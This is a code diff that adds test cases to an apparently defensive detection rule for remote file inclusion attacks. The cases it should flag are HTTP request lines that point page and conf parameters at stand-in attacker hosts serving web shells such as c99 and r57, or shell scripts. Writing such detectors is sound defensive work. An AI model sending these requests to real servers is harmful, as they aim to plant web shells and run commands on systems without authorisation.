@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -27,6 +28,24 @@ export default defineRule({
     'GET /a.php?dir=ftp://evil.example/shell.gif?cmd=id HTTP/1.1',
     'GET /a.php?x=http%3A%2F%2Fevil.example%2Fa%3F%3F HTTP/1.1',
     'GET /a.php?conf=http://evil.example/c99.txt HTTP/1.1',
+    ...each(
+      'GET /index.php?page=http://evil.example/x.{}? HTTP/1.1',
+      'php inc jpg png dat log pl cgi py bmp',
+    ),
+    'GET /index.php?page=http://evil.example/x.txt?%26 HTTP/1.1',
+    'GET /a.php?conf=ftp://evil.example/c99.txt HTTP/1.1',
+    'GET /a.php?conf=http://evil.example/c99.gif HTTP/1.1',
+    ...each(
+      'GET /a.php?conf=http://evil.example/{}.txt HTTP/1.1',
+      'r57 cmd exec backdoor bypass safe id echo fx29 byroe response copyright shell',
+    ),
+    'GET /a.php?conf=http://evil.example/c99.php HTTP/1.1',
+    ...each('GET /a.php?conf=http://evil.example/{}.gif HTTP/1.1', 'r57 cmd byroe fx29'),
+    'GET /a.php?conf=http://evil.example/c99.jpg HTTP/1.1',
+    'GET /a.php?x=http://203.0.113.9/a.sh HTTP/1.1',
+    'GET /a.php?x=ftp://203.0.113.9/a.sh HTTP/1.1',
+    'GET /index.php?page=https://evil.example/x.txt? HTTP/1.1',
+    'GET /index.php?page=ftps://evil.example/x.txt? HTTP/1.1',
   ],
   misses: [
     'GET /go?url=http://example.org/index.php HTTP/1.1',
@@ -34,5 +53,9 @@ export default defineRule({
     'GET /thumb?src=http://example.org/cat.jpg HTTP/1.1',
     'GET /thumb?src=http://example.org/img/android.jpg HTTP/1.1',
     'GET /go?url=http://example.org/seashell.php HTTP/1.1',
+    {
+      request: 'GET /style.css HTTP/1.1',
+      referrer: 'https://www.example.com/index.php?page=http://evil.example/x.txt?',
+    },
   ],
 })
